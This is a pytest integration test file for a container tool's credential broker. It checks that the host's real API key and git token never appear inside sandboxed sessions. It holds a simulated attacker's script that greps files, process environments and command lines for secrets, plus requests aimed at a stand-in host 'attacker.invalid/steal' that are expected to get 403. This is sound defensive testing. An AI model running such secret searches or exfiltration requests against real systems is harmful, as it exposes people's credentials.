"""The credential broker against real containers and real coi sessions.

A fake model API (tests/fakeupstream.py: HTTPS on the host's loopback, a test CA that
only the broker trusts, through the trusted config's [credentials] ca_file) records the
credential each request carries. The host's real key is a unique marker in a host
variable; inside, requests go to the broker with the placeholder, and a search of the
container's files, environment and processes must find the placeholder, never the marker.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import tempfile
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from coi.broker import PLACEHOLDER, PORT
from coi.incus.adapter import Incus
from tests.fakeupstream import Upstream
from tests.integration.helpers import coi

KEY_VAR = "BROKER_TEST_KEY"

# An HTTP request from inside through bash's /dev/tcp (the session image has no curl):
# $1 path, $2 the Host header ("": the broker's own); prints the whole response.
REQUEST = rf"""
trap '' PIPE
exec 3<>/dev/tcp/127.0.0.1/{PORT} || {{ echo connect-failed; exit 0; }}
printf 'GET %s HTTP/1.1\r\nHost: %s\r\nx-api-key: %s\r\n\r\n' \
  "$1" "${{2:-127.0.0.1:{PORT}}}" "$ANTHROPIC_API_KEY" >&3
cat <&3
echo; echo request-done
"""

# The attacker's search: files (root's view, all but /proc, /sys, /dev), every process's
# environment and command line, for the marker (given in two halves: whole, in an argument,
# the search would find itself).
SEARCH = r"""
secret="$1$2"
printf '%s\n' "$secret" | sudo -n bash -c '
read -r m
p="${m:0:1}[${m:1:1}]${m:2}"  # s[k]-...: a pattern that does not match its own argv
grep -rqs -D skip --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev -- "$p" / &&
  echo "found:file"
for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
  tr "\0" "\n" <"$f" 2>/dev/null | grep -q -- "$p" && echo "found:$f"
done
ps auxww | grep -q -- "$p" && echo found:ps
true'
echo "placeholder-env:$ANTHROPIC_API_KEY"
echo search-done
"""


@pytest.fixture
def secret() -> str:
    """The host's real API key: a unique marker."""
    return f"sk-real-{uuid.uuid4().hex}"


@pytest.fixture
def workspace(
    incus: Incus,
    session_image: str,
    tmp_path: Path,
    upstream: Upstream,
    secret: str,
    monkeypatch: pytest.MonkeyPatch,
) -> Iterator[Path]:
    """A workspace; a trusted config sending claude's broker to the fake upstream; the key
    in the host variable; a short COI_HOME (a unix socket path holds 107 bytes)."""
    home = Path(os.environ["HOME"])
    short = Path(tempfile.mkdtemp(prefix="cb", dir="/tmp"))
    short.chmod(0o755)  # so that only the run folder's own mode keeps other users out
    monkeypatch.setenv("COI_HOME", str(short))
    ws = tmp_path / "ws"
    ws.mkdir()
    user = home / ".config" / "coi" / "config.toml"
    user.parent.mkdir(parents=True, exist_ok=True)
    user.write_text(
        f'[defaults]\nimage = "{session_image}"\n'
        f'[tools.claude]\nbinary = "claude"\nupstreams = ["{upstream.url}"]\n'
        f'[credentials]\napi_key_env = "{KEY_VAR}"\nca_file = "{upstream.ca}"\n'
        f'token_url = "{upstream.url}/oauth/token"\n'
    )
    monkeypatch.setenv(KEY_VAR, secret)
    monkeypatch.setenv("COI_CONTAINER_PREFIX", f"bk{uuid.uuid4().hex[:5]}-")
    monkeypatch.chdir(ws)
    try:
        yield ws
    finally:
        shutil.rmtree(short, ignore_errors=True)


def brokers() -> list[int]:
    """The pids of broker processes of this test's COI_HOME."""
    home = os.environ["COI_HOME"].encode()
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            argv = (entry / "cmdline").read_bytes().split(b"\0")
            state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if state != "Z" and b"coi.broker" in argv and any(a.startswith(home) for a in argv):
            found.append(int(entry.name))
    return found


def _started(*flags: str) -> str:
    started = coi("shell", "--background", *flags)
    assert started.returncode == 0, started.stderr
    name = re.search(r"^(\S+) keeps running", started.stderr, re.MULTILINE)
    assert name, started.stderr
    return name[1]


def _inside(name: str, script: str, *args: str) -> str:
    done = coi("container", "exec", name, "--", "bash", "-c", script, "bash", *args)
    assert done.returncode == 0, done.stderr
    return done.stdout


def _listed(name: str) -> dict[str, object]:
    shown = coi("list", "--format", "json")
    assert shown.returncode == 0, shown.stderr
    rows = [r for r in json.loads(shown.stdout)["containers"] if r.get("name") == name]
    assert rows, shown.stdout
    return rows[0]


def test_the_real_key_reaches_the_upstream_and_only_the_placeholder_is_inside(
    workspace: Path, upstream: Upstream, secret: str
) -> None:
    name = _started("--tool", "claude")
    try:
        out = _inside(name, REQUEST, "/v1/messages?beta=true", "")
        assert "HTTP/1.1 200" in out and '"ok": true' in out, out
        assert upstream.credentials() == [secret]  # the real key, swapped in on the host
        found = _inside(name, SEARCH, secret[:12], secret[12:])
        assert "search-done" in found, found
        assert "found:" not in found, found  # no file, environment or process holds it
        assert f"placeholder-env:{PLACEHOLDER}" in found
        # The search can fail: the same key planted in a file is found.
        _inside(name, 'printf %s%s "$1" "$2" >/tmp/planted', secret[:12], secret[12:])
        assert "found:file" in _inside(name, SEARCH, secret[:12], secret[12:])
        row = _listed(name)
        assert row["broker"]["alive"] is True and row["broker"]["requests"] == 1, row
        assert row["broker"]["upstreams"] == [upstream.url]
    finally:
        coi("kill", name)
    assert brokers() == []


def test_a_host_that_is_not_an_upstream_gets_403_and_is_logged(
    workspace: Path, upstream: Upstream
) -> None:
    name = _started("--tool", "claude")
    try:
        out = _inside(name, REQUEST, "/v1/x", "attacker.invalid")
        assert out.startswith("HTTP/1.1 403"), out
        absolute = _inside(name, REQUEST, "http://attacker.invalid/steal", "")
        assert absolute.startswith("HTTP/1.1 403"), absolute
        assert upstream.seen.requests == []  # nothing left the host
        session = _listed(name)["broker"]["audit"]
        lines = [json.loads(x) for x in Path(str(session)).read_text().splitlines()]
        assert [(x["upstream"], x["status"]) for x in lines] == [
            ("attacker.invalid", 403),
            ("attacker.invalid", 403),
        ]
        assert all(
            set(x) == {"time", "upstream", "method", "path", "status", "bytes"} for x in lines
        )
    finally:
        coi("kill", name)


def test_another_container_and_another_host_user_cannot_reach_the_broker(
    workspace: Path, upstream: Upstream
) -> None:
    name = _started("--tool", "claude")
    sock = str(Path(os.environ["COI_HOME"]) / "run" / f"b-{name}.sock")
    try:
        # Another container (a `coi run` of the same workspace, no tool: no broker of its
        # own): its loopback port is its own and closed, and the host's socket is not there.
        probe = f"test -e {sock} || echo no-socket\n" + REQUEST
        done = coi("run", "--", "bash", "-c", probe, "bash", "/v1/messages", "")
        assert done.returncode == 0, done.stderr
        assert "connect-failed" in done.stdout and "no-socket" in done.stdout, done.stdout
        # Another host user: the socket's folder is the user's own, 0700.
        assert Path(sock).parent.stat().st_mode & 0o077 == 0
        code = "import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1])"
        nobody = coi_as_nobody(code + "; print('connected')", sock)
        assert "connected" not in nobody and "PermissionError" in nobody, nobody
        assert upstream.seen.requests == []
    finally:
        coi("kill", name)


def coi_as_nobody(code: str, sock: str) -> str:
    """Run python as the host user nobody, connecting to sock; its output."""
    done = subprocess.run(
        [
            "setpriv",
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "python3",
            "-c",
            code,
            sock,
        ],
        capture_output=True,
        text=True,
        timeout=30,
    )
    return done.stdout + done.stderr


def test_no_broker_is_left_after_any_teardown(workspace: Path, upstream: Upstream) -> None:
    # run end
    done = coi("run", "--tool", "claude", "--", "bash", "-c", REQUEST, "bash", "/v1/m", "")
    assert done.returncode == 0 and "HTTP/1.1 200" in done.stdout, done.stderr
    assert brokers() == []
    # kill
    name = _started("--tool", "claude")
    assert len(brokers()) == 1
    assert coi("kill", name).returncode == 0
    assert brokers() == []
    # shutdown
    name = _started("--tool", "claude")
    assert len(brokers()) == 1
    assert coi("shutdown", "--force", name).returncode == 0
    assert brokers() == []
    # poweroff inside, then the next coi command reaps the container
    name = _started("--tool", "claude")
    coi("container", "exec", name, "--", "sudo", "poweroff")
    deadline = time.monotonic() + 60
    while brokers() and time.monotonic() < deadline:
        time.sleep(0.5)
    assert brokers() == [], "the broker outlived its stopped container"
    coi("kill", name)


def test_a_dead_broker_is_a_clear_error_inside_and_in_coi_list(
    workspace: Path, upstream: Upstream
) -> None:
    name = _started("--tool", "claude")
    try:
        pid = brokers()
        assert len(pid) == 1
        os.kill(pid[0], 9)
        time.sleep(0.3)
        out = _inside(name, REQUEST, "/v1/messages", "")
        assert "HTTP/1.1 200" not in out, out
        row = _listed(name)
        assert row["broker"]["alive"] is False, row
        listed = coi("list")
        assert f"the credential broker of {name} is not running" in listed.stderr, listed.stderr
        doctor = coi("doctor")
        assert f"the credential broker of {name} is not running" in doctor.stdout + doctor.stderr
    finally:
        coi("kill", name)


@pytest.fixture
def coi_image(incus: Incus) -> str:
    """The `coi` image (Claude Code installed), shared from the default project."""
    if incus.image_alias("coi") is None:
        pytest.skip("no `coi` image here: build it with `coi build`")
    return "coi"


def test_claude_code_starts_with_no_login_and_answers_through_the_broker(
    workspace: Path, upstream: Upstream, secret: str, coi_image: str
) -> None:
    user = Path(os.environ["HOME"]) / ".config" / "coi" / "config.toml"
    user.write_text(re.sub(r'image = "[^"]*"', f'image = "{coi_image}"', user.read_text()))
    done = coi("run", "--tool", "claude", "--", "timeout", "120", "claude", "-p", "say pong")
    assert done.returncode == 0, done.stderr
    assert "pong from the fake upstream" in done.stdout, done.stdout
    # Interactive, as `coi shell` starts it: no login, no key question, an answer.
    name = _started()
    try:
        screen = ""
        for _ in range(60):  # bounded: Claude Code's first screen
            screen = coi("tmux", "capture", name).stdout
            if "bypass permissions on" in screen or "login" in screen.lower():
                break
            time.sleep(1)
        assert "bypass permissions on" in screen, screen
        assert "login" not in screen.lower() and "API key" not in screen, screen
        coi("tmux", "send", name, "say pong")
        for _ in range(60):
            screen = coi("tmux", "capture", name).stdout
            if "pong from the fake upstream" in screen:
                break
            time.sleep(1)
        assert "pong from the fake upstream" in screen, screen
    finally:
        coi("shutdown", "--force", name)  # saves the session, its conversation too
    # Resumed (the state saved above comes back): still no login, still through the broker.
    name = _started("--resume")
    try:
        for _ in range(60):
            screen = coi("tmux", "capture", name).stdout
            if "bypass permissions on" in screen or "login" in screen.lower():
                break
            time.sleep(1)
        assert "bypass permissions on" in screen and "login" not in screen.lower(), screen
    finally:
        coi("kill", name)
    assert set(upstream.credentials()) == {secret}


def test_two_sessions_with_an_expiring_token_refresh_it_once(
    workspace: Path, upstream: Upstream, monkeypatch: pytest.MonkeyPatch
) -> None:
    """No API key on the host: the OAuth token of ~/.claude/.credentials.json, about to
    expire; two sessions ask at once; the host refreshes once and both keep working."""
    monkeypatch.delenv(KEY_VAR)
    tokens = Path(os.environ["HOME"]) / ".claude" / ".credentials.json"
    tokens.parent.mkdir(parents=True, exist_ok=True)
    soon = int((time.time() + 60) * 1000)
    login = {"accessToken": "old-access", "refreshToken": "old-refresh", "expiresAt": soon}
    tokens.write_text(json.dumps({"claudeAiOauth": login}))
    first, second = _started("--tool", "claude"), _started("--tool", "claude")
    try:
        answers: dict[str, str] = {}
        threads = [
            threading.Thread(target=lambda n=n: answers.update({n: _inside(n, REQUEST, "/v1/m")}))
            for n in (first, second)
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(300)
        assert all("HTTP/1.1 200" in answers.get(n, "") for n in (first, second)), answers
        assert upstream.seen.refreshes == 1
        assert upstream.credentials() == ["Bearer fresh-access-1"] * 2
        saved = json.loads(tokens.read_text())["claudeAiOauth"]
        assert saved["refreshToken"] == "fresh-refresh-1"
        again = _inside(first, REQUEST, "/v1/again", "")  # and both keep working
        assert "HTTP/1.1 200" in again and upstream.seen.refreshes == 1
        assert "old-access" not in _inside(second, "cat ~/.claude/.credentials.json; true")
    finally:
        coi("kill", first, second)


def test_the_git_helper_gives_the_token_for_listed_hosts_and_writes_nothing(
    workspace: Path, upstream: Upstream, coi_image: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    token = f"ghp_{uuid.uuid4().hex}"
    monkeypatch.setenv("BROKER_TEST_GH", token)
    user = Path(os.environ["HOME"]) / ".config" / "coi" / "config.toml"
    text = re.sub(r'image = "[^"]*"', f'image = "{coi_image}"', user.read_text())
    user.write_text(text + 'git_hosts = ["github.com"]\ngit_token_env = "BROKER_TEST_GH"\n')
    name = _started("--tool", "claude")
    try:
        fill = "printf 'protocol=https\\nhost=%s\\n\\n' \"$1\" | "
        fill += "GIT_TERMINAL_PROMPT=0 git credential fill"
        got = _inside(name, fill + "; true", "github.com")
        assert f"password={token}" in got, got
        refused = _inside(name, fill + " 2>&1; true", "gitlab.com")
        assert token not in refused and "password=" not in refused, refused
        found = _inside(name, SEARCH, token[:12], token[12:])
        assert "search-done" in found and "found:" not in found, found
    finally:
        coi("kill", name)
